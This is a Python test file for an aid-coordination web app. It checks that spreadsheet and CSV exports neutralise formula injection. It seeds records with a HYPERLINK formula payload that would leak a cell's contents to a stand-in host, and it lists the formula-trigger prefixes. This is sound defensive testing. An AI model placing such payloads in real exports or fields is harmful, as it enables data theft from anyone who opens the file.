"""The outside probe's findings (issue 20): each one, as the probe would try it again."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import UUID

import openpyxl
import pytest
from litestar.testing import TestClient

from coordination.areas.accounts.commands import CreateUser, RegisterVolunteer
from coordination.areas.attendance.commands import CheckIn, CheckOut
from coordination.areas.packing.commands import AddLine, DispatchTruck, LogBoxes
from coordination.areas.sign_ups.commands import SignUp
from coordination.areas.sites.commands import OpenSite, ScheduleShift
from coordination.areas.tickets.commands import OpenTicket
from coordination.permissions import SYSTEM, Grant, Role
from tests.e2e.clients import sign_in
from tests.helpers import PASSWORD, mobile, national_id
from web.bootstrap import Services
from web.platform.downloads import csv_response, workbook_response
from web.platform.imports import start_import

FORMULA = '=HYPERLINK("http://x?leak="&B2,"Open")'
LIVE_STARTS = ("=", "+", "-", "@", "\t", "\r")


def exporting_world(services: Services) -> dict[str, str]:
    """A packing day, a kitchen, a point and a ticket, every free name a formula."""
    run = services.dispatcher.run
    admin = mobile()
    run(CreateUser(admin, "Admin", PASSWORD, [Grant(Role.NATIONAL_ADMIN)]), SYSTEM)
    site = run(OpenSite("formula-stadium", "packing", "01", FORMULA, FORMULA), SYSTEM)
    point = run(OpenSite("formula-point", "distribution_point", "01", FORMULA, FORMULA), SYSTEM)
    run(OpenSite("formula-kitchen", "kitchen", "01", FORMULA, FORMULA), SYSTEM)
    line = run(AddLine(site, FORMULA, FORMULA, 400), SYSTEM)
    run(LogBoxes(site, line, 12, "boxes"), SYSTEM)
    run(DispatchTruck(site, point, 5, "truck", label=FORMULA), SYSTEM)
    now = datetime.now(UTC).replace(microsecond=0)
    shift = run(
        ScheduleShift(site, "packer", now - timedelta(hours=1), now + timedelta(hours=5), 10),
        SYSTEM,
    )
    volunteer = run(RegisterVolunteer(FORMULA, mobile(), national_id(), "01", PASSWORD))
    run(SignUp(shift, volunteer, "formula-sign-up"), SYSTEM)
    run(CheckIn(site, volunteer, "formula-in"), SYSTEM)
    run(CheckOut(site, volunteer, "formula-out"), SYSTEM)
    run(OpenTicket("hotline", "urgent_need", "01", FORMULA, FORMULA, "0223456789"), SYSTEM)
    job = start_import(services.db, "households", "admin", str(point), [], list, "ar")
    services.runner.catch_up()
    return {"admin": admin, "site": str(site), "job": job}


def export_routes(world: dict[str, str]) -> list[str]:
    site = world["site"]
    return [
        *(f"/packing/{site}/export/{n}.csv" for n in ("check_ins", "hours", "boxes", "dispatches")),
        f"/packing/{site}/export/day.xlsx",
        "/kitchens/report/csv",
        "/kitchens/report/xlsx",
        "/kitchens/report/csv?governorate=01",
        "/kitchens/report/xlsx?governorate=01",
        "/governorates/report/overview.csv",
        "/governorates/report/overview.xlsx",
        "/governorates/report/01.csv",
        "/governorates/report/01.xlsx",
        "/operations/report/csv",
        "/operations/report/xlsx",
        f"/imports/{world['job']}/rejected.csv",
    ]


def cells_of(body: bytes, xlsx: bool) -> list[tuple[Any, str]]:
    """Every cell as (value, kind): 'f' a formula, 'u' a link, 'n' a number, 's' text."""
    if not xlsx:
        text = body.decode("utf-8-sig")
        return [(cell, "s") for row in csv.reader(io.StringIO(text)) for cell in row]
    book = openpyxl.load_workbook(io.BytesIO(body))
    return [
        (cell.value, "u" if cell.hyperlink else cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def test_every_export_carries_formulas_as_inert_text(
    client: TestClient, services: Services
) -> None:
    world = exporting_world(services)
    sign_in(client, world["admin"])
    formulas_seen = 0
    for route in export_routes(world):
        answer = client.get(route)
        assert answer.status_code == 200, (route, answer.text[:300])
        xlsx = "xlsx" in route
        for value, kind in cells_of(answer.content, xlsx):
            assert kind not in ("f", "u"), (route, value)
            if xlsx or not isinstance(value, str):
                formulas_seen += value == FORMULA
                continue
            assert not value.startswith(LIVE_STARTS), (route, value)
            formulas_seen += value == "'" + FORMULA
    assert formulas_seen >= 10


def test_numbers_stay_numbers_and_text_that_looks_live_is_quoted() -> None:
    rows = [{"name": "-1+1", "count": -5, "at": "@SUM(A1)", "tab": "\tx", "plain": "منى"}]
    columns = ("name", "count", "at", "tab", "plain")
    text = csv_response(rows, columns, "t").content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1] == ["'-1+1", "-5", "'@SUM(A1)", "'\tx", "منى"]
    book = openpyxl.load_workbook(io.BytesIO(workbook_response({"t": (rows, columns)}, "t").content))
    cells = [(cell.value, cell.data_type) for cell in book["t"][2]]
    assert cells[1] == (-5, "n") and all(kind in ("s", "n") for _, kind in cells)


@pytest.mark.parametrize("name", ["٠١.csv", "۲۱.xlsx", "01.csv"])
def test_a_governorate_report_named_in_arabic_indic_digits(
    client: TestClient, services: Services, name: str
) -> None:
    world = exporting_world(services)
    sign_in(client, world["admin"])
    answer = client.get(f"/governorates/report/{name}")
    assert answer.status_code == 200
    assert answer.headers["content-disposition"].isascii()
